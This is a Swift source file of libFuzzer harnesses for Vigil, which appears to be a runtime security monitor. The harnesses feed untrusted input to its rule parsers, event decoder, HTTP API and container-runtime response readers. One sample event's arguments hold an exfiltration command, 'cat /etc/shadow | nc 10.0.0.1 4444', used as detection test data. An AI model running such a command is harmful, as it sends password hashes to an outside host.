// libFuzzer targets over the parsers that read untrusted input (issue 16 §1, FUZZING.md). One
// binary serves all: VIGIL_FUZZ_TARGET names the target. Each feeds the input to the entry point
// Vigil itself uses; a thrown error is an expected answer, a crash, trap, hang or leak is a finding.
import Foundation
import NIOCore
import NIOEmbedded
import NIOHTTP1
import VigilContainers
import VigilDaemon
import VigilEvents
import VigilRules

/// The fuzz targets by name (VIGIL_FUZZ_TARGET).
enum FuzzTarget: String, CaseIterable {
    case condition, yaml, toml, output, decoder, http, docker, containerd

    /// Runs one input.
    func run(_ bytes: [UInt8]) {
        switch self {
        case .condition: FuzzCondition.run(bytes)
        case .yaml: FuzzRules.run(bytes, file: "fuzz.yaml")
        case .toml: FuzzRules.run(bytes, file: "fuzz.toml")
        case .output: FuzzOutput.run(bytes)
        case .decoder: FuzzDecoder.run(bytes)
        case .http: FuzzHTTPRequest.run(bytes)
        case .docker: FuzzDockerResponse.run(bytes)
        case .containerd: FuzzContainerdResponse.run(bytes)
        }
    }

    /// The target the environment names; exits with a usage message when there is none.
    static let selected: FuzzTarget = {
        let name = ProcessInfo.processInfo.environment["VIGIL_FUZZ_TARGET"] ?? ""
        guard let target = FuzzTarget(rawValue: name) else {
            let names = allCases.map(\.rawValue).joined(separator: ", ")
            FileHandle.standardError.write(Data("vigil-fuzz: set VIGIL_FUZZ_TARGET to one of \(names) (got \"\(name)\")\n".utf8))
            exit(2)
        }
        return target
    }()
}

/// libFuzzer's entry: one input.
@_cdecl("LLVMFuzzerTestOneInput")
public func vigilFuzzTestOneInput(_ data: UnsafePointer<UInt8>?, _ size: Int) -> CInt {
    let bytes = data.map { Array(UnsafeBufferPointer(start: $0, count: size)) } ?? []
    FuzzTarget.selected.run(bytes)
    return 0
}

/// Events the rule targets evaluate and render: an exec with arguments and a cwd, and an open.
enum FuzzEvents {
    static let all: [Event] = [
        Event(bootTimeNs: 1, timeNs: 1_700_000_000_000_000_000, cgroupID: 1, pid: 100, tid: 100, ppid: 1,
              uid: 0, gid: 0, cpu: 0, mountNamespace: 4_026_531_841, pidNamespace: 4_026_531_836, comm: "sh",
              payload: .exec(Payload.Exec(filename: "/bin/sh", executablePath: "/usr/bin/dash",
                                        arguments: ["sh", "-c", "cat /etc/shadow | nc 10.0.0.1 4444"],
                                        argumentsTruncated: false, cwd: "/root", tty: "pts/0", ttyNumber: 34816,
                                        loginUID: 1000, startTimeNs: 1))),
        Event(bootTimeNs: 2, timeNs: 1_700_000_000_000_000_001, cgroupID: 1, pid: 101, tid: 101, ppid: 100,
              uid: 1000, gid: 1000, cpu: 1, mountNamespace: 4_026_531_841, pidNamespace: 4_026_531_836, comm: "cat",
              payload: .open(Payload.Open(syscall: "openat", name: "shadow", path: "/etc/shadow", flags: 0o2101,
                                        mode: 0o644, dirfd: -100, result: 3, truncated: false))),
    ]
}

/// The input as UTF-8 text, as rule files are read (`RuleFiles.items(path:)` refuses other bytes).
func text(_ bytes: [UInt8]) -> String? { String(validating: bytes, as: UTF8.self) }

/// The condition language: compiled (with a macro and a list to refer to), then evaluated and
/// explained against each event.
enum FuzzCondition {
    static func run(_ bytes: [UInt8]) {
        // A context per input, as each rule set makes its own: its macro cache lives as long as
        // the input (one kept for the process would be reported as a leak by LeakSanitizer, which
        // does not follow Swift's enum payload pointers with tag bits).
        let context = ConditionContext(
            macros: ["spawned_process": (text: "evt.type = execve", location: SourceLocation(file: "fuzz", line: 1, column: 1))],
            lists: ["shell_binaries": ["sh", "bash", "dash"]])
        guard let text = text(bytes),
              let condition = try? ConditionCompiler.compile(text, at: SourceLocation(file: "fuzz", line: 1, column: 1), context: context)
        else { return }
        for event in FuzzEvents.all {
            _ = condition.matches(event)
            _ = condition.explain(event)
        }
    }
}

/// A rules file (Falco-style YAML or bpfd TOML, by the name's extension), loaded as the rules
/// directory loads it, then merged and compiled as a rule set and run on each event.
enum FuzzRules {
    static func run(_ bytes: [UInt8], file: String) {
        guard let text = text(bytes), let items = try? RuleFiles.items(text: text, file: file),
              let rules = try? RuleSet(files: [(file: file, items: items)])
        else { return }
        for event in FuzzEvents.all {
            rules.forEachMatch(event) { rule in _ = rule.output.render(event) }
        }
    }
}

/// An output template: parsed, then rendered for each event.
enum FuzzOutput {
    static func run(_ bytes: [UInt8]) {
        guard let text = text(bytes) else { return }
        let template = OutputTemplate(text, at: SourceLocation(file: "fuzz", line: 1, column: 1))
        for event in FuzzEvents.all { _ = template.render(event) }
    }
}

/// The input as one ring record, decoded as the sensors decode it; an event is then written as
/// JSON and as a table row (what the outputs do with it).
enum FuzzDecoder {
    static func run(_ bytes: [UInt8]) {
        var decoder = EventDecoder(bootToEpochNs: 1_700_000_000_000_000_000)
        let event = bytes.withUnsafeBytes { decoder.decode($0) }
        guard let event else { return }
        _ = EventFormat.json(event)
        _ = EventFormat.tableRow(event)
    }
}

/// The control API's request parsing: the bytes as they come off a connection, through the
/// server's own NIO pipeline (`HTTPServer.configureHTTPPipeline`), each request built as the
/// router gets it. The first byte picks where the input is cut in two reads.
enum FuzzHTTPRequest {
    /// Collects the requests the decoder produces.
    final class Collector: ChannelInboundHandler {
        typealias InboundIn = HTTPServerRequestPart
        var head: HTTPRequestHead?
        var body: [UInt8] = []
        var requests = 0

        func channelRead(context: ChannelHandlerContext, data: NIOAny) {
            switch unwrapInboundIn(data) {
            case .head(let head): self.head = head; body = []
            case .body(var buffer): body += buffer.readBytes(length: buffer.readableBytes) ?? []
            case .end:
                if let head { _ = HTTPRequest(head, body: body, peer: nil); requests += 1 }
                head = nil
            }
        }
    }

    static func run(_ bytes: [UInt8]) {
        guard let first = bytes.first else { return }
        let input = bytes.dropFirst()
        let cut = input.isEmpty ? 0 : Int(first) % (input.count + 1)
        let channel = EmbeddedChannel()
        do {
            try HTTPServer.configureHTTPPipeline(channel, limits: HTTPLimits())
            try channel.pipeline.syncOperations.addHandler(Collector())
            // Active as an accepted connection is: an inactive EmbeddedChannel decodes nothing.
            try channel.connect(to: SocketAddress(ipAddress: "127.0.0.1", port: 1)).wait()
        } catch {
            fatalError("the HTTP pipeline: \(error)")
        }
        for piece in [input.prefix(cut), input.dropFirst(cut)] where !piece.isEmpty && channel.isActive {
            _ = try? channel.writeInbound(ByteBuffer(bytes: piece))
        }
        _ = try? channel.finish(acceptAlreadyClosed: true)
    }
}

/// A containerd answer as read off its socket (the first byte picks the read size): HTTP/2
/// frames through `HTTP2FrameReader`, each frame through `GRPCResponseReader` with one
/// `HPACKDecoder` as `GRPCConnection.call` reads them (HEADERS and CONTINUATION header blocks,
/// `:status`, `grpc-status`, `grpc-message`, DATA, the gRPC message), a message answered through
/// `ContainerdContainer.decodeGetResponse`, a new call's reader on the next stream after each
/// answer; also the whole input (after the first byte) as a `GetContainerResponse` and as one
/// HPACK header block.
enum FuzzContainerdResponse {
    static func run(_ bytes: [UInt8]) {
        guard let first = bytes.first else { return }
        let input = Array(bytes.dropFirst())
        _ = try? ContainerdContainer.decodeGetResponse(input[...])
        var blockDecoder = HPACKDecoder()
        _ = try? blockDecoder.decode(input)
        let readSize = Int(first) + 1
        var frames = HTTP2FrameReader()
        var decoder = HPACKDecoder()
        var call = GRPCResponseReader(stream: 1, path: "fuzz")
        var offset = 0
        while offset < input.count {
            frames.append(Array(input[offset..<min(offset + readSize, input.count)]))
            offset += readSize
            while let frame = try? frames.next() {
                do throws(GRPCError) {
                    if case .message(let message) = try call.read(frame, decoder: &decoder) {
                        _ = try? ContainerdContainer.decodeGetResponse(message[...])
                        call = GRPCResponseReader(stream: call.stream + 2, path: "fuzz")
                    }
                } catch .status {
                    call = GRPCResponseReader(stream: call.stream + 2, path: "fuzz")
                } catch {
                    return  // the connection is done for: a client drops it
                }
            }
        }
    }
}

/// The Docker Engine API client's response decoding: the bytes as read off the socket (cut in
/// reads of a size the first byte picks), through `HTTPResponseDecoder` to the end of the input,
/// the body through `LineSplitter` and each line decoded as a `GET /events` object, as the event
/// watcher does.
enum FuzzDockerResponse {
    static func run(_ bytes: [UInt8]) {
        guard let first = bytes.first else { return }
        let input = Array(bytes.dropFirst())
        let readSize = Int(first) + 1
        var decoder = HTTPResponseDecoder()
        var lines = LineSplitter()
        var offset = 0
        func consume(_ parts: [HTTPResponsePart]) throws(HTTPDecodingError) {
            for case .body(let body) in parts {
                for line in try lines.feed(body) { _ = ContainerEvent.decode(json: line) }
            }
        }
        do throws(HTTPDecodingError) {
            while !decoder.isComplete {
                if offset >= input.count {
                    try consume(try decoder.finish())
                    break
                }
                let end = min(offset + readSize, input.count)
                try consume(try decoder.feed(Array(input[offset..<end])))
                offset = end
            }
        } catch {}
    }
}

#if FUZZING
/// libFuzzer's driver (compiler-rt), which parses the flags and runs the inputs.
@_silgen_name("LLVMFuzzerRunDriver")
func LLVMFuzzerRunDriver(
    _ argc: UnsafeMutablePointer<CInt>, _ argv: UnsafeMutablePointer<UnsafeMutablePointer<UnsafeMutablePointer<CChar>?>?>,
    _ callback: @convention(c) (UnsafePointer<UInt8>?, Int) -> CInt) -> CInt

/// The program's entry. SwiftPM links an executable target's `main` to `<module>_main`
/// (`--defsym main=vigil_fuzz_main`), so libFuzzer's own `main` is never linked in: this one
/// hands the command line to libFuzzer's driver.
@_cdecl("vigil_fuzz_main")
func vigilFuzzMain(_ argc: CInt, _ argv: UnsafeMutablePointer<UnsafeMutablePointer<CChar>?>?) -> CInt {
    var argc = argc
    var argv = argv
    return LLVMFuzzerRunDriver(&argc, &argv) { data, size in vigilFuzzTestOneInput(data, size) }
}
#else
/// Without `-D FUZZING` (a plain `swift build`) there is no libFuzzer main: says how to run.
@main
enum VigilFuzzUsage {
    static func main() {
        print("""
        vigil-fuzz is a libFuzzer binary: `make fuzz` (scripts/fuzz.sh) builds it with
        -sanitize=fuzzer,address -D FUZZING and runs each target (\(FuzzTarget.allCases.map(\.rawValue).joined(separator: ", "))).
        """)
    }
}
#endif
